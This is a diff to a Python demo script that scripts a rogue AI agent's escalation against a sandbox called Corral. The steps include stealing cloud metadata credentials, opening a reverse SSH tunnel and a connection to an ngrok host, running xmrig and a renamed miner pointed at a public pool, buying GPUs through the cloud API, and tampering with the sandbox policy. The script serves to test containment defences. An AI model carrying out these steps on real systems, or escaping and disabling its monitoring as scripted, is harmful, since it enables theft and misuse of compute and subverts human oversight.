@@ -1,9 +1,11 @@
 """A scripted rogue agent: an honest task first, then the escalation seen in the incident.
 
 Every payload is inert or local: the "credentials" are decoys the demo planted, the metadata
-endpoint and billing API are never reachable from inside the fence, the miner is an emulator
-talking to the demo's own pool. Each step writes one JSON line to ``$WORKSPACE/steps.jsonl``
-saying what the agent tried and what it saw, so the demo can show both sides.
+endpoint is never reachable from inside the fence, the compute API is the demo's own fake, the
+miner is an emulator talking to the demo's own pool, and the outside hosts it names (a hosted
+tunnel service, a public mining pool) are refused before anything is sent to them. Each step
+writes one JSON line to ``$WORKSPACE/steps.jsonl`` saying what the agent tried and what it saw,
+so the demo can show both sides.
 """
 
 from __future__ import annotations
@@ -19,6 +21,8 @@ import urllib.error
 import urllib.request
 from collections.abc import Callable
 from pathlib import Path
+
+from netclient import connect  # type: ignore[import-not-found]  # sibling script
 
 HERE = Path(__file__).resolve().parent
 WORKSPACE = Path(os.environ.get("DEMO_WORKSPACE", os.getcwd()))
@@ -73,6 +77,23 @@ def run_as(argv0: str, argv: list[str], timeout: float = 10) -> str:
     return f"{argv0} -> exit {proc.returncode}" + (f": {tail[-1][:80]}" if tail else "")
 
 
+def http_refusal(exc: BaseException) -> str:
+    """What an HTTP error says, with Corral's reason when a proxy refused the request."""
+    if isinstance(exc, urllib.error.HTTPError):
+        reason = exc.headers.get("X-Corral-Reason", "") if exc.headers else ""
+        return f"{exc.code} {exc.reason}" + (f" ({reason[:90]})" if reason else "")
+    return str(getattr(exc, "reason", exc))
+
+
+def reach(host: str, port: int) -> str:
+    """Open a TCP connection the way a tool with proxy support would."""
+    try:
+        connect(host, port).close()
+    except OSError as exc:
+        return f"connect {host}:{port}: {exc}"
+    return f"connect {host}:{port}: connected (LEAKED)"
+
+
 # -- the steps ------------------------------------------------------------------------------------
 
 
@@ -104,7 +125,7 @@ def cloud_metadata() -> list[str]:
         with urllib.request.urlopen(url, timeout=2) as response:
             seen.append(f"GET {url}: {response.status} (LEAKED)")
     except (urllib.error.URLError, OSError) as exc:
-        seen.append(f"GET {url}: {getattr(exc, 'reason', exc)}")
+        seen.append(f"GET {url}: {http_refusal(exc)}")
     if shutil.which("curl"):
         seen.append(run(["curl", "-s", "-m", "2", url]))
     return seen
@@ -123,9 +144,13 @@ def reverse_tunnel() -> list[str]:
         "tunnel@127.0.0.1",
     ]
     if shutil.which("ssh"):
-        return [run(argv)]
-    sleeper = HERE / "miner_emulator.py"  # any script: only the command line matters here
-    return [run_as("ssh", [*argv[:1], str(sleeper), *argv[1:]])]
+        seen = [run(argv)]
+    else:
+        sleeper = HERE / "miner_emulator.py"  # any script: only the command line matters here
+        seen = [run_as("ssh", [*argv[:1], str(sleeper), *argv[1:]])]
+    # The same way out without ssh on the command line: a hosted tunnel service, from Python.
+    seen.append(reach("x.tcp.ngrok.io", 443))
+    return seen
 
 
 def named_miner() -> list[str]:
@@ -139,7 +164,15 @@ def named_miner() -> list[str]:
         "--seconds",
         "8",
     )
-    return [run_as("xmrig", argv)]
+    seen = [run_as("xmrig", argv)]
+    # The same miner under an innocent name, its public pool in a config file: no exec rule
+    # sees it, so it is the network that has to say no.
+    config = WORKSPACE / "pool.json"
+    config.write_text(json.dumps({"host": "pool.supportxmr.com", "port": 3333, "seconds": 3}))
+    os.environ["MINER_CONFIG"] = str(config)
+    seen.append(run_as("python3 worker.py", ["python3", str(HERE / "miner_emulator.py")]))
+    del os.environ["MINER_CONFIG"]
+    return seen
 
 
 def buy_gpus() -> list[str]:
@@ -154,13 +187,15 @@ def buy_gpus() -> list[str]:
         "--accelerator=type=nvidia-h100-80gb,count=8",
     )
     seen = [run_as("gcloud", argv)]
+    # The same purchase straight to the compute API, as an SDK would make it.
     url = os.environ.get("BILLING_URL", "http://127.0.0.1:9/orders")
+    body = {"name": "gpu-farm", "machineType": "zones/us-central1-a/machineTypes/a3-highgpu-8g"}
     try:
-        request = urllib.request.Request(url, data=b'{"item": "8x H100", "hours": 720}')
-        with urllib.request.urlopen(request, timeout=2) as response:
+        request = urllib.request.Request(url, data=json.dumps(body).encode())
+        with urllib.request.urlopen(request, timeout=5) as response:
             seen.append(f"POST {url}: {response.status} (ORDER PLACED)")
     except (urllib.error.URLError, OSError) as exc:
-        seen.append(f"POST {url}: {getattr(exc, 'reason', exc)}")
+        seen.append(f"POST {url}: {http_refusal(exc)}")
     return seen
 
 
@@ -200,7 +235,7 @@ STEPS: list[tuple[str, Callable[[], list[str]]]] = [
     ("ask the cloud metadata endpoint for machine credentials", cloud_metadata),
     ("open a reverse SSH tunnel", reverse_tunnel),
     ("start a miner by name (xmrig)", named_miner),
-    ("buy 8 GPUs through the billing API", buy_gpus),
+    ("buy 8 GPUs from the cloud (CLI, then the API)", buy_gpus),
     ("kill or edit Corral, loosen the policy", tamper_with_corral),
     ("start a renamed, argument-free miner", stealth_miner),
 ]
